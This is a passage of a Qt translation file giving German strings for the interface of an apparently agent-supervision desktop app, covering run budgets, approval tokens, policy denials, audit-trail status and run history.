        <source>[request-id: %1]</source>
        <translation>[request-id: %1]</translation>
    </message>
    <message numerus="yes">
        <source>(gave up after %n attempt(s))</source>
        <translation>
            <numerusform>(nach %n Versuch aufgegeben)</numerusform>
            <numerusform>(nach %n Versuchen aufgegeben)</numerusform>
        </translation>
    </message>
    <message>
        <source>The model turn was cancelled.</source>
        <translation>Die Modellrunde wurde abgebrochen.</translation>
    </message>
    <message>
        <source>No complete answer from the API within %1 s; the turn was abandoned.</source>
        <translation>Keine vollständige Antwort der API innerhalb von %1 s; die Runde wurde aufgegeben.</translation>
    </message>
</context>
<context>
    <name>m1::GoalEditor</name>
    <message>
        <source>&amp;Goal:</source>
        <translation>&amp;Ziel:</translation>
    </message>
    <message>
        <source>Goal</source>
        <translation>Ziel</translation>
    </message>
    <message>
        <source>What should the agent do? For example: fix the failing test in calc.py</source>
        <translation>Was soll der Agent tun? Zum Beispiel: den fehlschlagenden Test in calc.py reparieren</translation>
    </message>
    <message>
        <source>Recent</source>
        <translation>Zuletzt</translation>
    </message>
    <message>
        <source>Recent goals</source>
        <translation>Zuletzt verwendete Ziele</translation>
    </message>
    <message>
        <source>Agent profile</source>
        <translation>Agentenprofil</translation>
    </message>
    <message>
        <source>Model</source>
        <translation>Modell</translation>
    </message>
    <message>
        <source>Default of the profile</source>
        <translation>Standard des Profils</translation>
    </message>
    <message>
        <source>Workspace folder</source>
        <translation>Arbeitsordner</translation>
    </message>
    <message>
        <source>Demo workspace (offline replay only)</source>
        <translation>Demo-Arbeitsbereich (nur Offline-Wiedergabe)</translation>
    </message>
    <message>
        <source>&amp;Browse…</source>
        <translation>&amp;Durchsuchen…</translation>
    </message>
    <message>
        <source>Choose the workspace folder</source>
        <translation>Arbeitsordner auswählen</translation>
    </message>
    <message>
        <source>Workspace folder: the agent&apos;s tools cannot reach outside it</source>
        <translation>Arbeitsordner: Die Werkzeuge des Agenten haben keinen Zugriff auf etwas außerhalb davon</translation>
    </message>
    <message>
        <source>&amp;Agent:</source>
        <translation>&amp;Agent:</translation>
    </message>
    <message>
        <source>&amp;Model:</source>
        <translation>&amp;Modell:</translation>
    </message>
    <message>
        <source>&amp;Workspace:</source>
        <translation>Arbeits&amp;bereich:</translation>
    </message>
    <message>
        <source>Maximum model turns</source>
        <translation>Maximale Anzahl Modellrunden</translation>
    </message>
    <message>
        <source>Maximum tool calls</source>
        <translation>Maximale Anzahl Werkzeugaufrufe</translation>
    </message>
    <message>
        <source> s</source>
        <translation> s</translation>
    </message>
    <message>
        <source>Maximum runtime in seconds</source>
        <translation>Maximale Laufzeit in Sekunden</translation>
    </message>
    <message>
        <source>no budget</source>
        <translation>kein Budget</translation>
    </message>
    <message>
        <source>Budget for this run in US dollars</source>
        <translation>Budget für diesen Lauf in US-Dollar</translation>
    </message>
    <message>
        <source>D&amp;ry run</source>
        <translation>&amp;Probelauf</translation>
    </message>
    <message>
        <source>Policy, approvals, tokens and audit as usual, but no tool runs.</source>
        <translation>Richtlinie, Freigaben, Tokens und Prüfprotokoll wie gewohnt, aber es wird kein Werkzeug ausgeführt.</translation>
    </message>
    <message>
        <source>S&amp;teps:</source>
        <translation>Schri&amp;tte:</translation>
    </message>
    <message>
        <source>Tool &amp;calls:</source>
        <translation>&amp;Werkzeugaufrufe:</translation>
    </message>
    <message>
        <source>R&amp;untime:</source>
        <translation>&amp;Laufzeit:</translation>
    </message>
    <message>
        <source>Bu&amp;dget:</source>
        <translation>B&amp;udget:</translation>
    </message>
    <message>
        <source>&amp;Start</source>
        <translation>&amp;Starten</translation>
    </message>
    <message>
        <source>Start the run (Ctrl+Return)</source>
        <translation>Lauf starten (Strg+Return)</translation>
    </message>
    <message>
        <source>St&amp;op</source>
        <translation>St&amp;oppen</translation>
    </message>
    <message>
        <source>Stop the run: no tool runs after this (Ctrl+.)</source>
        <translation>Lauf stoppen: Danach wird kein Werkzeug mehr ausgeführt (Strg+.)</translation>
    </message>
    <message>
        <source>Looking up the keychain…</source>
        <translation>Schlüsselbund wird abgefragt…</translation>
    </message>
    <message>
        <source>Runs on Claude (API key found).</source>
        <translation>Läuft mit Claude (API-Schlüssel gefunden).</translation>
    </message>
    <message>
        <source>Runs on the offline replay: no API key, so a recorded demo transcript plays. Add a key in Settings to use Claude.</source>
        <translation>Läuft mit der Offline-Wiedergabe: Kein API-Schlüssel vorhanden, daher wird ein aufgezeichneter Demo-Mitschnitt abgespielt. Fügen Sie in den Einstellungen einen Schlüssel hinzu, um Claude zu verwenden.</translation>
    </message>
    <message>
        <source>Opening the audit database…</source>
        <translation>Prüfprotokoll-Datenbank wird geöffnet…</translation>
    </message>
    <message>
        <source>Runs cannot start without the audit database: %1</source>
        <translation>Läufe können ohne die Prüfprotokoll-Datenbank nicht starten: %1</translation>
    </message>
</context>
<context>
    <name>m1::GuiApprovalGate</name>
    <message>
        <source>covered by &quot;approve for this run&quot; given earlier</source>
        <translation>abgedeckt durch zuvor erteiltes &quot;Für diesen Lauf freigeben&quot;</translation>
    </message>
</context>
<context>
    <name>m1::HistoryModel</name>
    <message>
        <source>Started</source>
        <translation>Gestartet</translation>
    </message>
    <message>
        <source>Goal</source>
        <translation>Ziel</translation>
    </message>
    <message>
        <source>Agent</source>
        <translation>Agent</translation>
    </message>
    <message>
        <source>Model</source>
        <translation>Modell</translation>
    </message>
    <message>
        <source>Stop reason</source>
        <translation>Endgrund</translation>
    </message>
    <message>
        <source>Steps</source>
        <translation>Schritte</translation>
    </message>
    <message>
        <source>Calls (ok / denied)</source>
        <translation>Aufrufe (ok / abgelehnt)</translation>
    </message>
    <message>
        <source>Tokens</source>
        <translation>Tokens</translation>
    </message>
    <message>
        <source>Cost</source>
        <translation>Kosten</translation>
    </message>
    <message>
        <source>Duration</source>
        <translation>Dauer</translation>
    </message>
    <message>
        <source>running</source>
        <translation>läuft</translation>
    </message>
    <message>
        <source>unknown</source>
        <translation>unbekannt</translation>
    </message>
</context>
<context>
    <name>m1::HistoryView</name>
    <message>
        <source>Filter by agent</source>
        <translation>Nach Agent filtern</translation>
    </message>
    <message>
        <source>All agents</source>
        <translation>Alle Agenten</translation>
    </message>
    <message>
        <source>Filter by stop reason</source>
        <translation>Nach Endgrund filtern</translation>
    </message>
    <message>
        <source>Any end</source>
        <translation>Beliebiges Ende</translation>
    </message>
    <message>
        <source>Filter by model</source>
        <translation>Nach Modell filtern</translation>
    </message>
    <message>
        <source>All models</source>
        <translation>Alle Modelle</translation>
    </message>
    <message>
        <source>From</source>
        <translation>Von</translation>
    </message>
    <message>
        <source>First day</source>
        <translation>Erster Tag</translation>
    </message>
    <message>
        <source>to</source>
        <translation>bis</translation>
    </message>
    <message>
        <source>Last day</source>
        <translation>Letzter Tag</translation>
    </message>
    <message>
        <source>Text in the goal…</source>
        <translation>Text im Ziel…</translation>
    </message>
    <message>
        <source>Search the goals</source>
        <translation>Ziele durchsuchen</translation>
    </message>
    <message>
        <source>Past runs</source>
        <translation>Frühere Läufe</translation>
    </message>
    <message>
        <source>Open a run (double-click or Enter) to see its timeline.</source>
        <translation>Öffnen Sie einen Lauf (Doppelklick oder Eingabetaste), um seine Zeitleiste zu sehen.</translation>
    </message>
    <message>
        <source>E&amp;xport run as JSON…</source>
        <translation>Lauf als JSON e&amp;xportieren…</translation>
    </message>
    <message>
        <source>&amp;Verify audit trail</source>
        <translation>Prüfprotokoll &amp;prüfen</translation>
    </message>
    <message numerus="yes">
        <source>%n run(s) loaded</source>
        <translation>
            <numerusform>%n Lauf geladen</numerusform>
            <numerusform>%n Läufe geladen</numerusform>
        </translation>
    </message>
    <message>
        <source>; scroll for more</source>
        <translation>; für weitere scrollen</translation>
    </message>
    <message>
        <source>The history could not be read: %1</source>
        <translation>Der Verlauf konnte nicht gelesen werden: %1</translation>
    </message>
    <message>
        <source>Export run</source>
        <translation>Lauf exportieren</translation>
    </message>
    <message>
        <source>JSON (*.json)</source>
        <translation>JSON (*.json)</translation>
    </message>
    <message>
        <source>Export failed</source>
        <translation>Export fehlgeschlagen</translation>
    </message>
    <message>
        <source>Could not write %1. Choose another folder.</source>
        <translation>%1 konnte nicht geschrieben werden. Wählen Sie einen anderen Ordner.</translation>
    </message>
    <message>
        <source>Could not open the run: %1</source>
        <translation>Der Lauf konnte nicht geöffnet werden: %1</translation>
    </message>
    <message>
        <source>Run %1 — %2</source>
        <translation>Lauf %1 — %2</translation>
    </message>
    <message>
        <source>Verifying…</source>
        <translation>Wird geprüft…</translation>
    </message>
    <message>
        <source>Audit check failed: %1</source>
        <translation>Prüfung des Prüfprotokolls fehlgeschlagen: %1</translation>
    </message>
    <message numerus="yes">
        <source>Audit trail intact (%n event(s) checked)</source>
        <translation>
            <numerusform>Prüfprotokoll intakt (%n Eintrag geprüft)</numerusform>
            <numerusform>Prüfprotokoll intakt (%n Einträge geprüft)</numerusform>
        </translation>
    </message>
    <message>
        <source>AUDIT TRAIL BROKEN at event %1: %2</source>
        <translation>PRÜFPROTOKOLL BESCHÄDIGT bei Eintrag %1: %2</translation>
    </message>
    <message>
        <source>Run %1: agent %2, model %3 (%4)%5
Goal: %6</source>
        <translation>Lauf %1: Agent %2, Modell %3 (%4)%5
Ziel: %6</translation>
    </message>
    <message>
        <source>, dry run</source>
        <translation>, Probelauf</translation>
    </message>
    <message>
        <source>API call %1 (attempt %2): %3 in, %4 out, %5, %6 ms%7</source>
        <translation>API-Aufruf %1 (Versuch %2): %3 Eingabe, %4 Ausgabe, %5, %6 ms%7</translation>
    </message>
    <message>
        <source>(no request id)</source>
        <translation>(keine Anfrage-ID)</translation>
    </message>
    <message>
        <source>cost unknown</source>
        <translation>Kosten unbekannt</translation>
    </message>
    <message>
        <source>, error %1</source>
        <translation>, Fehler %1</translation>
    </message>
    <message>
        <source>Still running (or ended without a record).</source>
        <translation>Läuft noch (oder ohne Abschlusseintrag beendet).</translation>
    </message>
    <message>
        <source>Ended: %1</source>
        <translation>Beendet: %1</translation>
    </message>
    <message>
        <source>Click a column to order all matching runs by it (the goal column does not sort).</source>
        <translation>Klicken Sie auf eine Spalte, um alle passenden Läufe danach zu sortieren (die Zielspalte sortiert nicht).</translation>
    </message>
    <message>
        <source> · ordered by %1, %2</source>
        <translation> · sortiert nach %1, %2</translation>
    </message>
    <message>
        <source>descending</source>
        <translation>absteigend</translation>
    </message>
    <message>
        <source>ascending</source>
        <translation>aufsteigend</translation>
    </message>
    <message>
        <source>Opening the audit database…</source>
        <translation>Prüfprotokoll-Datenbank wird geöffnet…</translation>
    </message>
    <message>
        <source>No audit database: %1</source>
        <translation>Keine Prüfprotokoll-Datenbank: %1</translation>
    </message>
    <message>
        <source>AUDIT TRAIL BROKEN: %1</source>
        <translation>PRÜFPROTOKOLL BESCHÄDIGT: %1</translation>
    </message>
</context>
<context>
    <name>m1::MainWindow</name>
    <message>
        <source>M1 Agent Control</source>
        <translation>M1 Agent Control</translation>
    </message>
    <message>
        <source>New run (Ctrl+N)</source>
        <translation>Neuer Lauf (Strg+N)</translation>
    </message>
    <message>
        <source>New run</source>
        <translation>Neuer Lauf</translation>
    </message>
    <message>
        <source>&amp;Runs</source>
        <translation>&amp;Läufe</translation>
    </message>
    <message>
        <source>&amp;History</source>
        <translation>&amp;Verlauf</translation>
    </message>
    <message>
        <source>&amp;Charts</source>
        <translation>Dia&amp;gramme</translation>
    </message>
    <message>
        <source>A&amp;lerts</source>
        <translation>&amp;Warnungen</translation>
    </message>
    <message>
        <source>Pending approvals</source>
        <translation>Ausstehende Freigaben</translation>
    </message>
    <message>
        <source>&amp;Show</source>
        <translation>An&amp;zeigen</translation>
    </message>
    <message>
        <source>Deny selected</source>
        <translation>Auswahl ablehnen</translation>
    </message>
    <message>
        <source>Deny all</source>
        <translation>Alle ablehnen</translation>
    </message>
    <message>
        <source>denied from the queue list</source>
        <translation>in der Warteschlange abgelehnt</translation>
    </message>
    <message>
        <source>Deny all?</source>
        <translation>Alle ablehnen?</translation>
    </message>
    <message numerus="yes">
        <source>Deny all %n pending proposal(s)?</source>
        <translation>
            <numerusform>%n ausstehenden Vorschlag ablehnen?</numerusform>
            <numerusform>Alle %n ausstehenden Vorschläge ablehnen?</numerusform>
        </translation>
    </message>
    <message>
        <source>denied with all pending proposals</source>
        <translation>zusammen mit allen ausstehenden Vorschlägen abgelehnt</translation>
    </message>
    <message>
        <source>Show the queue of pending approvals (F9)</source>
        <translation>Warteschlange der ausstehenden Freigaben anzeigen (F9)</translation>
    </message>
    <message>
        <source>No token secret: runs cannot start</source>
        <translation>Kein Token-Geheimnis: Läufe können nicht starten</translation>
    </message>
    <message>
        <source>Approval tokens unavailable</source>
        <translation>Freigabe-Tokens nicht verfügbar</translation>
    </message>
    <message>
        <source>The secret that signs approval tokens could not be read: %1</source>
        <translation>Das Geheimnis, mit dem Freigabe-Tokens signiert werden, konnte nicht gelesen werden: %1</translation>
    </message>
    <message>
        <source>Unlock the keychain and press Retry, or set M1_JWT_SECRET (32 bytes or more) in the environment and restart.</source>
        <translation>Entsperren Sie den Schlüsselbund und klicken Sie auf „Wiederholen“, oder setzen Sie M1_JWT_SECRET (mindestens 32 Bytes) in der Umgebung und starten Sie neu.</translation>
    </message>
    <message>
        <source>Claude</source>
        <translation>Claude</translation>
    </message>
    <message>
        <source>Offline replay</source>
        <translation>Wiedergabe (offline)</translation>
    </message>
    <message>
        <source>Critical alert</source>
        <translation>Kritische Warnung</translation>
    </message>
    <message>
        <source>Warning</source>
        <translation>Warnung</translation>
    </message>
    <message>
        <source>A&amp;lerts (%1)</source>
        <translation>&amp;Warnungen (%1)</translation>
    </message>
    <message>
        <source>&amp;File</source>
        <translation>&amp;Datei</translation>
    </message>
    <message>
        <source>&amp;New run</source>
        <translation>&amp;Neuer Lauf</translation>
    </message>
    <message>
        <source>&amp;Export cost report…</source>
        <translation>&amp;Kostenbericht exportieren…</translation>
    </message>
    <message>
        <source>&amp;Settings…</source>
        <translation>&amp;Einstellungen…</translation>
    </message>
    <message>
        <source>&amp;Quit</source>
        <translation>&amp;Beenden</translation>
    </message>
    <message>
        <source>&amp;View</source>
        <translation>&amp;Ansicht</translation>
    </message>
    <message>
        <source>&amp;Help</source>
        <translation>&amp;Hilfe</translation>
    </message>
    <message>
        <source>&amp;About</source>
        <translation>Ü&amp;ber</translation>
    </message>
    <message>
        <source>About M1 Agent Control</source>
        <translation>Über M1 Agent Control</translation>
    </message>
    <message>
        <source>M1 Agent Control %1
The agent only proposes tool calls. A call runs only when the policy allows it or you approve it, and only with a single-use approval token bound to that exact call.</source>
        <translation>M1 Agent Control %1
Der Agent schlägt Werkzeugaufrufe nur vor. Ein Aufruf wird nur ausgeführt, wenn die Richtlinie ihn erlaubt oder Sie ihn freigeben, und nur mit einem einmal verwendbaren Freigabe-Token, der an genau diesen Aufruf gebunden ist.</translation>
    </message>
    <message>
        <source>Stop the run?</source>
        <translation>Lauf stoppen?</translation>
    </message>
    <message>
        <source>This run is still going. Stop it and close the tab?</source>
        <translation>Dieser Lauf ist noch aktiv. Lauf stoppen und den Tab schließen?</translation>
    </message>
    <message>
        <source>1 pending</source>
        <translation>1 ausstehend</translation>
    </message>
    <message>
        <source>%1 pending</source>
        <translation>%1 ausstehend</translation>
    </message>
    <message numerus="yes">
        <source>%n approval(s) pending</source>
        <translation>
            <numerusform>%n Freigabe ausstehend</numerusform>
            <numerusform>%n Freigaben ausstehend</numerusform>
        </translation>
    </message>
    <message>
        <source>%1 (%2) — run %3, step %4</source>
        <translation>%1 (%2) — Lauf %3, Schritt %4</translation>
    </message>
    <message>
        <source>Quit?</source>
        <translation>Beenden?</translation>
    </message>
    <message>
        <source>Runs are still going. Quit anyway? They stop as cancelled.</source>
        <translation>Es sind noch Läufe aktiv. Trotzdem beenden? Sie werden als abgebrochen beendet.</translation>
    </message>
    <message>
        <source>, call %1 of %2 of its message</source>
        <translation>, Aufruf %1 von %2 seiner Nachricht</translation>
    </message>
    <message>
        <source>Opening the audit database</source>
        <translation>Prüfprotokoll-Datenbank wird geöffnet</translation>
    </message>
    <message>
        <source>Opening the audit database…</source>
        <translation>Prüfprotokoll-Datenbank wird geöffnet…</translation>
    </message>
    <message>
        <source>No audit database: runs cannot start</source>
        <translation>Keine Prüfprotokoll-Datenbank: Läufe können nicht starten</translation>
    </message>
    <message>
        <source>Audit database unavailable</source>
        <translation>Prüfprotokoll-Datenbank nicht verfügbar</translation>
    </message>
    <message>
        <source>The audit database %1 could not be opened.</source>
        <translation>Die Prüfprotokoll-Datenbank %1 konnte nicht geöffnet werden.</translation>
    </message>
    <message>
        <source>%1

Runs need it: every decision is recorded before a tool runs. If it is a PostgreSQL server, check that it runs and accepts the connection (password in ~/.pgpass); if it is a file, check the folder&apos;s permissions and free space. Then press Retry. To use another database, change it in Settings (Database) or start with --db, and restart.

Error code: %2</source>
        <translation>%1

Läufe brauchen sie: Jede Entscheidung wird aufgezeichnet, bevor ein Werkzeug läuft. Ist es ein PostgreSQL-Server, prüfen Sie, ob er läuft und die Verbindung annimmt (Passwort in ~/.pgpass); ist es eine Datei, prüfen Sie die Rechte des Ordners und den freien Speicherplatz. Drücken Sie dann Wiederholen. Für eine andere Datenbank ändern Sie sie in den Einstellungen (Datenbank) oder starten Sie mit --db, und starten Sie neu.

Fehlercode: %2</translation>
    </message>
</context>
<context>
    <name>m1::MetricsEndpoint</name>
    <message>
        <source>Cannot serve metrics on 127.0.0.1:%1 (is the port in use?)</source>
        <translation>Metriken können nicht auf 127.0.0.1:%1 bereitgestellt werden (ist der Port belegt?)</translation>
    </message>
</context>
<context>
    <name>m1::RunController</name>
    <message>
        <source>The run stopped (%1) before this call ran.</source>
        <translation>Der Lauf wurde beendet (%1), bevor dieser Aufruf ausgeführt wurde.</translation>
    </message>
    <message>
        <source>[older tool output removed to keep the conversation within the context window]</source>
        <translation>[ältere Werkzeugausgabe entfernt, damit die Unterhaltung in das Kontextfenster passt]</translation>
    </message>
    <message>
        <source>The model stopped for tool use but proposed no tool call.</source>
        <translation>Das Modell hat für eine Werkzeugnutzung angehalten, aber keinen Werkzeugaufruf vorgeschlagen.</translation>
    </message>
    <message>
        <source>The model paused its turn more than %1 times.</source>
        <translation>Das Modell hat seine Runde mehr als %1-mal unterbrochen.</translation>
    </message>
    <message>
        <source>The model&apos;s answer was cut at max_tokens (%1); a truncated tool call is never run. Retry with a larger max_tokens.</source>
        <translation>Die Antwort des Modells wurde bei max_tokens (%1) abgeschnitten; ein abgeschnittener Werkzeugaufruf wird nie ausgeführt. Versuchen Sie es mit einem größeren max_tokens erneut.</translation>
    </message>
    <message>
        <source>The model declined to continue: %1</source>
        <translation>Das Modell hat es abgelehnt fortzufahren: %1</translation>
    </message>
    <message>
        <source>no explanation given</source>
        <translation>keine Begründung angegeben</translation>
    </message>
    <message>
        <source>The conversation no longer fits the model&apos;s context window.</source>
        <translation>Die Unterhaltung passt nicht mehr in das Kontextfenster des Modells.</translation>
    </message>
    <message>
        <source>The model stopped for a reason this version does not know: &quot;%1&quot;. Nothing was proposed.</source>
        <translation>Das Modell hat aus einem Grund angehalten, den diese Version nicht kennt: &quot;%1&quot;. Es wurde nichts vorgeschlagen.</translation>
    </message>
    <message>
        <source>The run reached its limit of %1 tool calls.</source>
        <translation>Der Lauf hat sein Limit von %1 Werkzeugaufrufen erreicht.</translation>
    </message>
    <message>
        <source>The agent &quot;%1&quot; may not use %2.</source>
        <translation>Der Agent &quot;%1&quot; darf %2 nicht verwenden.</translation>
    </message>
    <message>
        <source>Denied by policy (%1): %2</source>
        <translation>Von der Richtlinie abgelehnt (%1): %2</translation>
    </message>
    <message>
        <source>A person&apos;s approval is needed (%1), but no one can approve in this session.</source>
        <translation>Eine Freigabe durch eine Person ist erforderlich (%1), aber in dieser Sitzung kann niemand freigeben.</translation>
    </message>
    <message>
        <source>Denied: %1</source>
        <translation>Abgelehnt: %1</translation>
    </message>
    <message>
        <source>Denied by the person reviewing this call.</source>
        <translation>Von der Person abgelehnt, die diesen Aufruf prüft.</translation>
    </message>
    <message>
        <source>Feedback from the reviewer: %1</source>
        <translation>Rückmeldung der prüfenden Person: %1</translation>
    </message>
    <message>
        <source>The edited arguments were refused: %1</source>
        <translation>Die bearbeiteten Argumente wurden zurückgewiesen: %1</translation>
    </message>
    <message>
        <source>Denied by policy (%1) after the reviewer edited the arguments: %2</source>
        <translation>Von der Richtlinie abgelehnt (%1), nachdem die prüfende Person die Argumente bearbeitet hatte: %2</translation>
    </message>
    <message>
        <source>No decision within %1 s.</source>
        <translation>Keine Entscheidung innerhalb von %1 s.</translation>
    </message>
    <message>
        <source>Not run: no approval token could be issued (%1).</source>
        <translation>Nicht ausgeführt: Es konnte kein Freigabe-Token ausgestellt werden (%1).</translation>
    </message>
    <message>
        <source>[dry run] %1 was approved but not executed: this run is a dry run, so no tool runs. Nothing changed.</source>
        <translation>[Probelauf] %1 wurde freigegeben, aber nicht ausgeführt: Dies ist ein Probelauf, daher wird kein Werkzeug ausgeführt. Es wurde nichts geändert.</translation>
    </message>
    <message>
        <source>dry run: approved, not executed</source>
        <translation>Probelauf: freigegeben, nicht ausgeführt</translation>
    </message>
    <message>
        <source>Not run: the approval request expired (%1).</source>
        <translation>Nicht ausgeführt: Die Freigabeanfrage ist abgelaufen (%1).</translation>
    </message>
    <message>
        <source>%1 failed (%2): %3</source>
        <translation>%1 fehlgeschlagen (%2): %3</translation>
    </message>
    <message>
        <source>Not run (%1): %2</source>
        <translation>Nicht ausgeführt (%1): %2</translation>
    </message>
    <message>
        <source>the tool reported failure</source>
        <translation>das Werkzeug hat einen Fehler gemeldet</translation>
    </message>
    <message>
        <source>
[output cut: showing the first %1 of %2 characters]</source>
        <translation>
[Ausgabe gekürzt: die ersten %1 von %2 Zeichen werden angezeigt]</translation>
    </message>
    <message>
        <source>The reviewer changed the arguments before approving; this ran with: %1
%2</source>
        <translation>Die prüfende Person hat die Argumente vor der Freigabe geändert; ausgeführt wurde mit: %1
%2</translation>
    </message>
    <message>
        <source>The policy denied %1 (%2): %3</source>
        <translation>Die Richtlinie hat %1 (%2) abgelehnt: %3</translation>
    </message>
    <message>
        <source>%1 denied %2.</source>
        <translation>%1 hat %2 abgelehnt.</translation>
    </message>
    <message>
        <source>A person</source>
        <translation>Eine Person</translation>
    </message>
    <message>
        <source>The approval request for %1 expired: %2</source>
        <translation>Die Freigabeanfrage für %1 ist abgelaufen: %2</translation>
    </message>
    <message>
        <source>%1 was refused: its approval token had expired.</source>
        <translation>%1 wurde zurückgewiesen: Sein Freigabe-Token war abgelaufen.</translation>
    </message>
    <message>
        <source>%1 reported a failure.</source>
        <translation>%1 hat einen Fehler gemeldet.</translation>
    </message>
    <message>
        <source>The request was withdrawn.</source>
        <translation>Die Anfrage wurde zurückgezogen.</translation>
    </message>
    <message>
        <source>The run stopped (%1) while the audit store refused writes; this call did not run.</source>
        <translation>Der Lauf wurde beendet (%1), während die Prüfprotokoll-Datenbank Schreibvorgänge ablehnte; dieser Aufruf wurde nicht ausgeführt.</translation>
    </message>
</context>
<context>
    <name>m1::RunTab</name>
    <message>
        <source>New run</source>
        <translation>Neuer Lauf</translation>
    </message>
    <message>
        <source>The run cannot start</source>
        <translation>Der Lauf kann nicht starten</translation>
    </message>
    <message>
        <source>Error code: %1</source>
        <translation>Fehlercode: %1</translation>
    </message>
    <message>
        <source>Run %1 on %2 (%3), workspace %4%5</source>
        <translation>Lauf %1 mit %2 (%3), Arbeitsbereich %4%5</translation>
    </message>
    <message>
        <source>; dry run: no tool will run</source>
        <translation>; Probelauf: Es wird kein Werkzeug ausgeführt</translation>
    </message>
    <message>
        <source>Plan:
%1</source>
        <translation>Plan:
%1</translation>
    </message>
    <message numerus="yes">
        <source>The conversation was trimmed to fit the context window (%n old result(s) replaced).</source>
        <translation>
            <numerusform>Die Unterhaltung wurde gekürzt, damit sie in das Kontextfenster passt (%n altes Ergebnis ersetzt).</numerusform>
            <numerusform>Die Unterhaltung wurde gekürzt, damit sie in das Kontextfenster passt (%n alte Ergebnisse ersetzt).</numerusform>
        </translation>
    </message>
    <message>
        <source>API attempt %1 failed: %2</source>
        <translation>API-Versuch %1 fehlgeschlagen: %2</translation>
    </message>
    <message>
        <source>Run ended: %1</source>
        <translation>Lauf beendet: %1</translation>
    </message>
    <message>
        <source>%1 proposed, %2 approved, %3 denied, %4 executed.</source>
        <translation>%1 vorgeschlagen, %2 freigegeben, %3 abgelehnt, %4 ausgeführt.</translation>
    </message>
    <message>
        <source>Tokens: %1 in · %2 out</source>
        <translation>Tokens: %1 Eingabe · %2 Ausgabe</translation>
    </message>
    <message>
        <source> + unknown</source>
        <translation> + unbekannt</translation>
    </message>
    <message>
        <source>Cost: %1 of %2 budget (%3%)</source>
        <translation>Kosten: %1 von %2 Budget (%3 %)</translation>
    </message>
    <message>
        <source>Cost: %1 (no budget)</source>
        <translation>Kosten: %1 (kein Budget)</translation>
    </message>
    <message>
        <source>Elapsed: %1</source>
        <translation>Verstrichen: %1</translation>
    </message>
    <message>
        <source>Stopped: %1</source>
        <translation>Beendet: %1</translation>
    </message>
    <message>
        <source>Running</source>
        <translation>Läuft</translation>
    </message>
    <message>
        <source>Not started</source>
        <translation>Nicht gestartet</translation>
    </message>
    <message>
        <source>Run paused: the audit store refused a write</source>
        <translation>Lauf pausiert: Die Prüfprotokoll-Datenbank hat einen Schreibvorgang abgelehnt</translation>
    </message>
    <message>
        <source>&amp;Retry</source>
        <translation>&amp;Wiederholen</translation>
    </message>
    <message>
        <source>Write the refused audit events again and go on with the run.</source>
        <translation>Die abgelehnten Protokolleinträge erneut schreiben und den Lauf fortsetzen.</translation>
    </message>
    <message>
        <source>&amp;Cancel run</source>
        <translation>Lauf a&amp;bbrechen</translation>
    </message>
    <message>
        <source>End the run: nothing more runs. Its end is recorded if the audit store can take it.</source>
        <translation>Den Lauf beenden: Es wird nichts mehr ausgeführt. Sein Ende wird aufgezeichnet, sofern die Prüfprotokoll-Datenbank es annimmt.</translation>
    </message>
    <message>
        <source>Cancelling the run…</source>
        <translation>Lauf wird abgebrochen…</translation>
    </message>
    <message>
        <source>Retrying the refused audit write.</source>
        <translation>Der abgelehnte Schreibvorgang ins Prüfprotokoll wird wiederholt.</translation>
    </message>
    <message>
        <source>audit storage read-only</source>
        <translation>Prüfprotokoll-Speicher schreibgeschützt</translation>
    </message>
    <message>
        <source>audit storage full</source>
        <translation>Prüfprotokoll-Speicher voll</translation>
    </message>
    <message>
        <source>Make the audit database and its folder writable, then Retry.</source>
        <translation>Machen Sie die Prüfprotokoll-Datenbank und ihren Ordner beschreibbar, dann Wiederholen.</translation>
    </message>
    <message>
        <source>Free disk space (or raise the database&apos;s size limit), then Retry.</source>
        <translation>Geben Sie Speicherplatz frei (oder erhöhen Sie das Größenlimit der Datenbank), dann Wiederholen.</translation>
    </message>
    <message>
        <source>Run paused: %1. Nothing runs until the audit works again: the step that was refused did not happen. %2 Cancel ends the run.</source>
        <translation>Lauf pausiert: %1. Nichts wird ausgeführt, bis das Prüfprotokoll wieder funktioniert: Der abgelehnte Schritt hat nicht stattgefunden. %2 Abbrechen beendet den Lauf.</translation>
    </message>
    <message>
        <source>Run paused: %1 (%2). %3</source>
        <translation>Lauf pausiert: %1 (%2). %3</translation>
    </message>
    <message>
        <source>Paused: audit storage read-only</source>
        <translation>Pausiert: Prüfprotokoll-Speicher schreibgeschützt</translation>
    </message>
    <message>
        <source>Paused: audit storage full</source>
        <translation>Pausiert: Prüfprotokoll-Speicher voll</translation>
    </message>
</context>
<context>
    <name>m1::ScopeStyle</name>
    <message>
        <source>READ</source>
        <translation>LESEN</translation>
    </message>
    <message>
        <source>WRITE</source>
        <translation>SCHREIBEN</translation>
    </message>
    <message>
        <source>EXECUTE</source>
        <translation>AUSFÜHREN</translation>
    </message>
    <message>
        <source>UNKNOWN</source>
        <translation>UNBEKANNT</translation>
    </message>
    <message>
        <source>proposed</source>
        <translation>vorgeschlagen</translation>
    </message>
    <message>
        <source>waiting for you</source>
        <translation>wartet auf Sie</translation>
    </message>
    <message>
        <source>approved</source>
        <translation>freigegeben</translation>
    </message>
    <message>
        <source>denied</source>
        <translation>abgelehnt</translation>
    </message>
    <message>
        <source>expired</source>
        <translation>abgelaufen</translation>
    </message>
    <message>
        <source>running</source>
        <translation>läuft</translation>
    </message>
    <message>
        <source>executed</source>
        <translation>ausgeführt</translation>
    </message>
    <message>
        <source>failed</source>
        <translation>fehlgeschlagen</translation>
    </message>
    <message>
        <source>dry run: not executed</source>
        <translation>Probelauf: nicht ausgeführt</translation>
    </message>
    <message>
        <source>cancelled</source>
        <translation>abgebrochen</translation>
    </message>
    <message>
        <source>completed</source>
        <translation>abgeschlossen</translation>
    </message>
    <message>
        <source>cancelled by you</source>
        <translation>von Ihnen abgebrochen</translation>
    </message>
    <message>
        <source>step limit reached</source>
        <translation>Schrittlimit erreicht</translation>
    </message>
    <message>
        <source>tool call limit reached</source>
        <translation>Limit für Werkzeugaufrufe erreicht</translation>
    </message>
    <message>
        <source>runtime limit reached</source>
        <translation>Laufzeitlimit erreicht</translation>
    </message>
    <message>
        <source>budget exceeded</source>
        <translation>Budget überschritten</translation>
    </message>
    <message>
        <source>API error</source>
        <translation>API-Fehler</translation>
    </message>
    <message>
        <source>the model refused</source>
        <translation>das Modell hat abgelehnt</translation>
    </message>
    <message>
        <source>output token limit reached</source>
        <translation>Limit für Ausgabe-Tokens erreicht</translation>
    </message>
    <message>
        <source>context window full</source>
        <translation>Kontextfenster voll</translation>
    </message>
    <message>
        <source>audit trail could not be written</source>
        <translation>Prüfprotokoll konnte nicht geschrieben werden</translation>
    </message>
    <message>
        <source>to do</source>
        <comment>plan step</comment>
        <translation>offen</translation>
    </message>
    <message>
        <source>in progress</source>
